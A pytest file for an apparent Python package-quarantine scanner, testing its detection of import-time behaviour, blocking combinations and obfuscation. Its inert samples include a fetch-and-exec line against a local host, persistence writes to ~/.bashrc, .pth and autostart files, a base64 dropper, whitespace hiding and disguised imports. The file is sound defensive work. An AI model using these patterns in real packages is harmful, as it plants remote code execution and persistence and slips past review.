"""Import-time behaviour, rule by rule: what runs at import (calls followed across modules),
what is new since the previous release, the combinations that block, and the obfuscation
signals that only ever raise another finding. Real archives built here; nothing is run.
"""

import base64
import json
import pickle
import random
from pathlib import Path

import pytest

from quarantine.evidence import Action, Finding, Severity
from quarantine.inspect.check import Inspection, inspect_file
from quarantine.inspect.member_cache import MemberCache
from quarantine.inspect.release_diff import ArchiveSummary
from quarantine.inspect.rules.catalog import known
from support.dists import Dist, build_sdist, build_wheel

CLEAN = "import os\n\n\ndef here():\n    return os.getcwd()\n"
POPEN = "import subprocess\nsubprocess.Popen(['id'])\n"


def _inspect(
    tmp_path: Path,
    dist: Dist,
    previous: ArchiveSummary | None = None,
    cache: MemberCache | None = None,
) -> Inspection:
    path = tmp_path / dist.filename
    path.write_bytes(dist.data)
    return inspect_file(path, dist.filename, previous, cache=cache)


def _summary(tmp_path: Path, dist: Dist) -> ArchiveSummary:
    summary = _inspect(tmp_path, dist).summary
    assert summary is not None
    return summary


def _after_clean(tmp_path: Path, modules: dict[str, str], name: str = "demo") -> Inspection:
    """``modules`` as release 1.1 of a project whose 1.0 did nothing at import."""
    previous = _summary(tmp_path, build_wheel(name, "1.0", modules={f"{name}/__init__.py": CLEAN}))
    return _inspect(tmp_path, build_wheel(name, "1.1", modules=modules), previous)


def _rules(inspection: Inspection, severity: Severity | None = None) -> set[str]:
    return {f.rule for f in inspection.findings if severity is None or f.severity is severity}


def _only(inspection: Inspection, rule: str) -> Finding:
    (found,) = [f for f in inspection.findings if f.rule == rule]
    return found


# ------------------------------------------------------------ what runs at import


def test_a_call_into_another_module_of_the_distribution_runs_at_import(tmp_path: Path) -> None:
    modules = {
        "demo/__init__.py": "from demo.boot import start\n\nstart()\n",
        "demo/boot.py": "import subprocess\n\ndef start():\n    subprocess.Popen(['id'])\n",
    }
    found = _only(_after_clean(tmp_path, modules), "import-capability-new")
    assert found.severity is Severity.HIGH
    assert (found.path, found.line) == ("demo/boot.py", 4)
    assert "run when `demo/__init__.py` is imported" in found.message
    assert "in `demo.boot.start`" in found.message


def test_calls_are_followed_through_reexports_classes_and_decorators(tmp_path: Path) -> None:
    modules = {
        # "from . import helpers" then helpers.register: a module alias and a decorator
        "demo/__init__.py": (
            "from . import helpers\nfrom .api import Client\n\n"
            "@helpers.register\ndef plugin():\n    pass\n\n_client = Client()\n"
        ),
        "demo/api.py": "from ._impl import Client\n",
        "demo/_impl.py": (
            "import socket\n\nclass Client:\n    def __init__(self):\n        self._open()\n\n"
            "    def _open(self):\n        socket.create_connection(('127.0.0.1', 9))\n"
        ),
        "demo/helpers.py": (
            "import os\n\ndef register(function):\n    os.system('true')\n    return function\n"
        ),
    }
    inspection = _after_clean(tmp_path, modules)
    new = {
        f.message.split("`")[1] for f in inspection.findings if f.rule == "import-capability-new"
    }
    assert new == {"socket.create_connection", "os.system"}


def test_a_module_that_mentions_no_capability_is_parsed_when_it_relays(tmp_path: Path) -> None:
    # __init__ names nothing suspicious: it is only parsed because it calls start()
    modules = {
        "demo/__init__.py": "from ._boot import start\n\nstart()\n",
        "demo/_boot.py": "import subprocess\n\ndef start():\n    subprocess.Popen(['id'])\n",
        "demo/other.py": "def unrelated():\n    return 1\n",
    }
    inspection = _after_clean(tmp_path, modules)
    assert _only(inspection, "import-capability-new").path == "demo/_boot.py"


def test_calls_are_followed_only_so_deep(tmp_path: Path) -> None:
    chain = "".join(f"def f{i}():\n    f{i + 1}()\n\n" for i in range(8))
    source = f"import subprocess\n\n{chain}def f8():\n    subprocess.Popen(['id'])\n\nf0()\n"
    inspection = _after_clean(tmp_path, {"demo/__init__.py": source})
    assert "import-capability-new" not in _rules(inspection)
    assert "function-capability-new" in _rules(inspection)  # still reported


def test_a_capability_only_in_an_uncalled_function_is_reported_not_held(tmp_path: Path) -> None:
    source = (
        "import subprocess\n\ndef describe():\n    return subprocess.run(['git', 'describe'])\n"
    )
    inspection = _after_clean(tmp_path, {"demo/__init__.py": source})
    assert inspection.evidence().action is Action.REPORT
    found = _only(inspection, "function-capability-new")
    assert found.severity is Severity.LOW and "nothing calls at import" in found.message
    called = source + "\nVERSION = describe()\n"
    inspection = _after_clean(tmp_path, {"demo/__init__.py": called})
    assert inspection.evidence().action is Action.REVIEW


def test_what_the_previous_release_did_at_import_is_not_new(tmp_path: Path) -> None:
    previous = _summary(tmp_path, build_wheel("demo", "1.0", modules={"demo/__init__.py": POPEN}))
    moved = {"demo/__init__.py": "from ._run import go\ngo()\n"}
    moved["demo/_run.py"] = "import subprocess\n\ndef go():\n    subprocess.Popen(['id'])\n"
    inspection = _inspect(tmp_path, build_wheel("demo", "1.1", modules=moved), previous)
    assert inspection.evidence().action is Action.PASS


def test_compiling_to_a_syntax_tree_runs_nothing(tmp_path: Path) -> None:
    source = "import ast\nTREE = compile(SOURCE, 'x', 'exec', ast.PyCF_ONLY_AST)\n"
    assert _after_clean(tmp_path, {"demo/__init__.py": source}).evidence().action is Action.PASS
    source = "CODE = compile(SOURCE, 'x', 'exec')\n"  # a code object: reported, not run
    assert _after_clean(tmp_path, {"demo/__init__.py": source}).evidence().action is Action.REPORT


def test_sdist_package_sources_count_and_tests_do_not(tmp_path: Path) -> None:
    clean = build_sdist("demo", "1.0", modules={"src/demo/__init__.py": CLEAN})
    previous = _summary(tmp_path, clean)
    modules = {"src/demo/__init__.py": POPEN, "tests/test_demo.py": "import os\nos.system('x')\n"}
    inspection = _inspect(tmp_path, build_sdist("demo", "1.1", modules=modules), previous)
    found = _only(inspection, "import-capability-new")
    assert found.path == "demo-1.1/src/demo/__init__.py"


def test_what_runs_only_as_a_script_is_not_import_time(tmp_path: Path) -> None:
    guarded = (
        "import subprocess, urllib.request\n\ndef main():\n"
        "    exec(urllib.request.urlopen('https://127.0.0.1:9').read())\n\n"
        "if __name__ == '__main__':\n    main()\n"
    )
    platform = "import pty, sys\nif sys.platform != 'win32' and __name__ == '__main__':\n"
    modules = {"demo/tool.py": guarded, "demo/__main__.py": POPEN}
    modules["demo/ansi.py"] = platform + "    pty.spawn(sys.argv[1:])\n"  # as rich has it
    inspection = _after_clean(tmp_path, modules)
    assert inspection.evidence().action is Action.REPORT
    reported = [f for f in inspection.findings if f.rule == "function-capability-new"]
    assert {f.path for f in reported} == {"demo/tool.py", "demo/__main__.py", "demo/ansi.py"}
    assert all("never on import" in f.message for f in reported if f.path == "demo/__main__.py")
    otherwise = guarded + "else:\n    subprocess.Popen(['id'])\n"
    inspection = _after_clean(tmp_path, {"demo/tool.py": otherwise})
    assert _only(inspection, "import-capability-new").line == 9  # the else: runs on import


def test_sdist_scripts_beside_the_packages_are_not_package_sources(tmp_path: Path) -> None:
    clean = build_sdist("demo", "1.0", modules={"demo/__init__.py": CLEAN})
    previous = _summary(tmp_path, clean)
    modules = {"demo/__init__.py": CLEAN, "scripts/release.py": POPEN, "tasks/ci/run.py": POPEN}
    inspection = _inspect(tmp_path, build_sdist("demo", "1.1", modules=modules), previous)
    assert inspection.evidence().action is Action.PASS
    modules["demo/sub/__init__.py"] = POPEN  # inside the package: it counts
    inspection = _inspect(tmp_path, build_sdist("demo", "1.1", modules=modules), previous)
    assert _only(inspection, "import-capability-new").path == "demo-1.1/demo/sub/__init__.py"


# ------------------------------------------------------------- combinations


def test_persistence_at_import_blocks(tmp_path: Path) -> None:
    for source in (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('x')\n",
        "import site, os\n"
        "open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w').write('import x')\n",
        "from pathlib import Path\n(Path.home() / '.config/autostart/a.desktop').write_text('x')\n",
    ):
        inspection = _after_clean(tmp_path, {"demo/__init__.py": source})
        assert inspection.evidence().action is Action.BLOCK, source
        assert "persistence" in _only(inspection, "import-time-combination").message


def test_combinations_block_even_in_a_first_release(tmp_path: Path) -> None:
    fetch_run = (
        "import urllib.request\nexec(urllib.request.urlopen('https://127.0.0.1:9').read())\n"
    )
    inspection = _inspect(tmp_path, build_wheel("demo", "1.0", modules={"demo/x.py": fetch_run}))
    assert inspection.evidence().action is Action.BLOCK
    assert "fetch then run" in _only(inspection, "import-time-combination").message


def test_a_first_release_reports_single_capabilities(tmp_path: Path) -> None:
    inspection = _inspect(tmp_path, build_wheel("demo", "1.0", modules={"demo/x.py": POPEN}))
    assert inspection.evidence().action is Action.REPORT
    found = _only(inspection, "import-capability-first")
    assert "first release" in found.message and found.line == 2


def test_a_fetch_alone_is_not_fetch_then_run(tmp_path: Path) -> None:
    source = "import subprocess\nsubprocess.run(['curl', '-o', 'x.pyz', 'https://127.0.0.1:9'])\n"
    inspection = _after_clean(tmp_path, {"demo/__init__.py": source})
    assert "import-time-combination" not in _rules(inspection)
    assert inspection.evidence().action is Action.REVIEW  # new at import all the same


# ------------------------------------------------------------- obfuscation


def test_hidden_code_alone_never_holds(tmp_path: Path) -> None:
    source = "x = 1" + " " * 434 + "; y = 2\n" + "DATA = '" + "Zm9vYmFy" * 200 + "'\n"
    inspection = _after_clean(tmp_path, {"demo/__init__.py": source})
    assert inspection.evidence().action is Action.REPORT  # the literal is noted, no more
    assert all(f.severity is Severity.INFO for f in inspection.findings)


def test_hidden_code_raises_what_it_hides(tmp_path: Path) -> None:
    plain = "import os\nos.system('id')\n"
    hidden = "import os" + " " * 300 + "; os.system('id')\n"
    assert _after_clean(tmp_path, {"demo/__init__.py": plain}).evidence().action is Action.REVIEW
    inspection = _after_clean(tmp_path, {"demo/__init__.py": hidden})
    assert inspection.evidence().action is Action.BLOCK
    signal = _only(inspection, "obfuscation-signal")
    assert signal.severity is Severity.INFO and "300 blanks" in signal.message


@pytest.mark.parametrize(
    ("hiding", "seen"),
    [
        ("x = 1" + " " * 200 + "; y = 2\n", "code after 200 blanks"),
        ("TABLE = [" + "1, " * 2000 + "]\n", "a line of 6010 characters"),
        (f"KEY = {base64.b64encode(random.Random(1).randbytes(600)).decode()!r}\n", "bits per"),
    ],
)
def test_each_obfuscation_signal_raises_a_new_capability(
    tmp_path: Path, hiding: str, seen: str
) -> None:
    inspection = _after_clean(tmp_path, {"demo/__init__.py": hiding + POPEN})
    found = _only(inspection, "import-capability-new")
    assert found.severity is Severity.CRITICAL and seen in found.message
    assert seen in _only(inspection, "obfuscation-signal").message


def test_a_combination_blocks_again_in_the_next_release(tmp_path: Path) -> None:
    # durabletask: three dropper releases in 35 minutes, each compared with the one before
    dropper = (
        "import base64, os, subprocess\n"
        "path = os.path.expanduser('~/.cache/agent')\n"
        "open(path, 'wb').write(base64.b64decode(DATA))\n"
        "subprocess.Popen([path], start_new_session=True)\n"
    )
    previous = None
    for version in ("1.4.1", "1.4.2", "1.4.3"):
        dist = build_wheel("demo", version, modules={"demo/__init__.py": dropper})
        inspection = _inspect(tmp_path, dist, previous)
        assert inspection.evidence().action is Action.BLOCK, version
        previous = inspection.summary


def test_a_js_runtime_is_held_and_an_obfuscated_bundle_blocks(tmp_path: Path) -> None:
    source = "import subprocess\nsubprocess.Popen(['node', 'demo/run.js'])\n"
    plain = b"console.log('hello');\n"
    packed = b"eval(function(p,a,c,k,e,d){return p}('x',1,1,'x'.split('|'),0,{}))\n"
    previous = _summary(tmp_path, build_wheel("demo", "1.0", modules={"demo/__init__.py": CLEAN}))
    for script, action in ((plain, Action.REVIEW), (packed, Action.BLOCK)):
        dist = build_wheel(
            "demo",
            "1.1",
            modules={"demo/__init__.py": source},
            extra_files={"demo/run.js": script},
        )
        assert _inspect(tmp_path, dist, previous).evidence().action is action


# ------------------------------------------------------------- the summary


def test_summaries_stored_before_import_time_rules_still_load(tmp_path: Path) -> None:
    current = _summary(tmp_path, build_wheel("demo", "1.0", modules={"demo/x.py": POPEN}))
    stored = current.to_json()
    assert stored["import_time"]["at_import"] == [
        ["process start", "subprocess.Popen", "demo/x.py", 2]
    ]
    assert ArchiveSummary.from_json(json.dumps(stored)) == current
    assert pickle.loads(pickle.dumps(current)) == current
    older = {key: value for key, value in stored.items() if key != "import_time"}
    loaded = ArchiveSummary.from_json(older)
    assert loaded.import_time is None  # unknown, not "nothing at import"
    inspection = _inspect(
        tmp_path, build_wheel("demo", "1.1", modules={"demo/x.py": POPEN}), loaded
    )
    found = _only(inspection, "import-capability-first")
    assert "1.0 was inspected before import-time rules" in found.message
    assert inspection.evidence().action is Action.REPORT


def test_the_member_cache_gives_the_same_verdicts(tmp_path: Path) -> None:
    modules = {
        "demo/__init__.py": "from ._boot import start\n\nstart()\n",
        "demo/_boot.py": "import subprocess\n\ndef start():\n    subprocess.Popen(['id'])\n",
    }
    previous = _summary(tmp_path, build_wheel("demo", "1.0", modules={"demo/__init__.py": CLEAN}))
    dist = build_wheel("demo", "1.1", modules=modules)
    cache = MemberCache()
    first = _inspect(tmp_path, dist, previous, cache)
    scanned = cache.scanned
    assert _inspect(tmp_path, dist, previous, cache) == first == _inspect(tmp_path, dist, previous)
    assert cache.scanned == scanned  # nothing scanned again, the relay's full parse included
    assert "import-capability-new" in _rules(first)


def test_every_import_time_rule_is_declared() -> None:
    for rule in (
        "import-capability-new",
        "import-capability-first",
        "import-time-combination",
        "function-capability-new",
        "obfuscation-signal",
    ):
        assert known(rule)


# ----------------------------------------------- what only a test runner or a later call runs


def test_a_conftest_body_runs_under_pytest_not_on_import(tmp_path: Path) -> None:
    # networkx 3.7 ships networkx/conftest.py, which asks `dot -V` at its top level.
    modules = {
        "demo/__init__.py": CLEAN,
        "demo/conftest.py": "import subprocess\nsubprocess.check_output(['dot', '-V'])\n",
    }
    found = _after_clean(tmp_path, modules)
    assert _rules(found) == {"function-capability-new"}
    assert "only when pytest loads `demo/conftest.py`" in found.findings[0].message
    assert found.evidence().action is Action.REPORT


DOT = "import subprocess\nsubprocess.check_output(['dot', '-V'])\n"


@pytest.mark.parametrize(
    "test_module", ["demo/tests/test_draw.py", "demo/draw_test.py", "demo/tests/helpers.py"]
)
def test_a_shipped_test_module_runs_under_pytest_not_on_import(
    tmp_path: Path, test_module: str
) -> None:
    # networkx 3.7: networkx/drawing/tests/test_pydot.py asks `dot -V` at its top level.
    found = _after_clean(tmp_path, {"demo/__init__.py": CLEAN, test_module: DOT})
    assert _rules(found) == {"function-capability-new"}
    assert found.evidence().action is Action.REPORT


@pytest.mark.parametrize(
    "importer",
    [
        "from . import conftest\n",
        "from .tests import (\n    helpers,\n    test_draw,\n)\n",
        "import importlib\nimportlib.import_module('demo.tests.test_draw')\n",
    ],
)
def test_a_test_module_another_module_imports_counts_as_imported(
    tmp_path: Path, importer: str
) -> None:
    modules = {"demo/__init__.py": importer, "demo/conftest.py": DOT}
    modules["demo/tests/__init__.py"] = ""
    modules["demo/tests/test_draw.py"] = DOT
    found = _after_clean(tmp_path, modules)
    assert Action.REVIEW.rank <= found.evidence().action.rank
    assert any(
        f.severity is Severity.HIGH for f in found.findings if f.rule == "import-capability-new"
    )


def test_a_bare_compile_at_import_is_reported_and_running_code_is_held(tmp_path: Path) -> None:
    # fontTools 4.68 compiles its table conditions at import and evaluates them on use.
    compiled = (
        "CONDITIONS = {}\nfor key in ('a', 'b'):\n"
        "    CONDITIONS[key] = compile(key, '<c>', 'eval')\n"
    )
    reported = _only(
        _after_clean(tmp_path, {"demo/__init__.py": compiled}), "import-capability-new"
    )
    assert reported.severity is Severity.LOW
    run = compiled + "VALUES = [eval(code) for code in CONDITIONS.values()]\n"
    held = _after_clean(tmp_path, {"demo/__init__.py": run})
    assert Severity.HIGH in {f.severity for f in held.findings if f.rule == "import-capability-new"}


# ------------------------------------- what a payload cannot hide behind (review findings)
PAYLOAD = "import subprocess\nsubprocess.check_output(['id'])\n"


@pytest.mark.parametrize("hidden_in", ["testing", "tests", "docs", "examples", "setup"])
def test_an_sdist_module_the_package_imports_counts_whatever_its_name(
    tmp_path: Path, hidden_in: str
) -> None:
    previous = _summary(tmp_path, build_sdist("demo", "1.0", modules={"demo/__init__.py": CLEAN}))
    modules = {"demo/__init__.py": f"from .{hidden_in} import payload\n"}
    if hidden_in == "setup":
        modules["demo/__init__.py"] = "from . import setup\n"
        modules["demo/setup.py"] = PAYLOAD
    else:
        modules[f"demo/{hidden_in}/__init__.py"] = ""
        modules[f"demo/{hidden_in}/payload.py"] = PAYLOAD
    found = _inspect(tmp_path, build_sdist("demo", "1.1", modules=modules), previous)
    assert found.evidence().action.rank >= Action.REVIEW.rank


@pytest.mark.parametrize(
    "importer",
    [
        "from .\uff54ests import payload\n",  # NFKC: a fullwidth t is a t to Python
        "import importlib\nimportlib.import_module('.t\\x65sts.payload', __name__)\n",
        "import importlib\nimportlib.import_module('.te' + 'sts.payload', __name__)\n",
        "import sys, os\nsys.path.insert(0, os.path.dirname(__file__) + '/t\\x65sts')\n"
        "import payload\n",
    ],
)
def test_a_test_module_imported_in_a_disguised_way_counts(tmp_path: Path, importer: str) -> None:
    modules = {"demo/__init__.py": importer, "demo/tests/__init__.py": ""}
    modules["demo/tests/payload.py"] = PAYLOAD
    found = _after_clean(tmp_path, modules)
    assert found.evidence().action.rank >= Action.REVIEW.rank


def test_a_pth_hook_importing_a_test_module_makes_it_count(tmp_path: Path) -> None:
    modules = {"demo/__init__.py": CLEAN, "demo/tests/__init__.py": ""}
    modules["demo/tests/payload.py"] = PAYLOAD
    previous = _summary(tmp_path, build_wheel("demo", "1.0", modules={"demo/__init__.py": CLEAN}))
    hook = {"demo-hook.pth": b"import demo.tests.payload\n"}
    dist = build_wheel("demo", "1.1", modules=modules, extra_files=hook)
    found = _inspect(tmp_path, dist, previous)
    assert any(
        f.rule == "import-capability-new" and f.severity is Severity.HIGH for f in found.findings
    )


def test_padding_a_module_past_the_parse_limit_does_not_hide_it(tmp_path: Path) -> None:
    padded = PAYLOAD + "# padding\n" * 130_000  # past 1 MiB
    found = _after_clean(tmp_path, {"demo/__init__.py": padded})
    assert _only(found, "import-time-not-analysed").severity is Severity.HIGH
    assert found.evidence().action.rank >= Action.REVIEW.rank


def test_two_members_installing_as_one_module_are_held(tmp_path: Path) -> None:
    modules = {"demo/__init__.py": CLEAN, "demo-1.1.data/purelib/demo/__init__.py": PAYLOAD}
    found = _after_clean(tmp_path, modules)
    assert _only(found, "module-duplicate").severity is Severity.HIGH


def test_a_module_beside_a_package_of_its_name_is_no_duplicate(tmp_path: Path) -> None:
    # numpy and scipy sdists ship _build_utils/tempita.py beside _build_utils/tempita/.
    modules = {"demo/__init__.py": CLEAN, "demo/tempita.py": CLEAN}
    modules["demo/tempita/__init__.py"] = CLEAN
    found = _after_clean(tmp_path, modules)
    assert "module-duplicate" not in _rules(found)


def test_an_oversized_test_module_is_held_only_when_the_package_imports_it(
    tmp_path: Path,
) -> None:
    padded = PAYLOAD + "# padding\n" * 130_000
    alone = {
        "demo/__init__.py": CLEAN,
        "demo/tests/__init__.py": "",
        "demo/tests/test_x.py": padded,
    }
    assert "import-time-not-analysed" not in _rules(_after_clean(tmp_path, alone))
    imported = {**alone, "demo/__init__.py": "from .tests import test_x\n"}
    found = _after_clean(tmp_path, imported)
    assert _only(found, "import-time-not-analysed").severity is Severity.HIGH


def test_a_tool_outside_the_packages_does_not_end_the_test_exemption(tmp_path: Path) -> None:
    # google-cloud-aiplatform's sdist: docs/conf.py edits sys.path; it is never installed.
    previous = _summary(tmp_path, build_sdist("demo", "1.0", modules={"demo/__init__.py": CLEAN}))
    modules = {"demo/__init__.py": CLEAN, "docs/conf.py": "import sys\nsys.path.insert(0, '..')\n"}
    modules["demo/tests/__init__.py"] = ""
    modules["demo/tests/test_x.py"] = PAYLOAD
    found = _inspect(tmp_path, build_sdist("demo", "1.1", modules=modules), previous)
    assert found.evidence().action is Action.REPORT
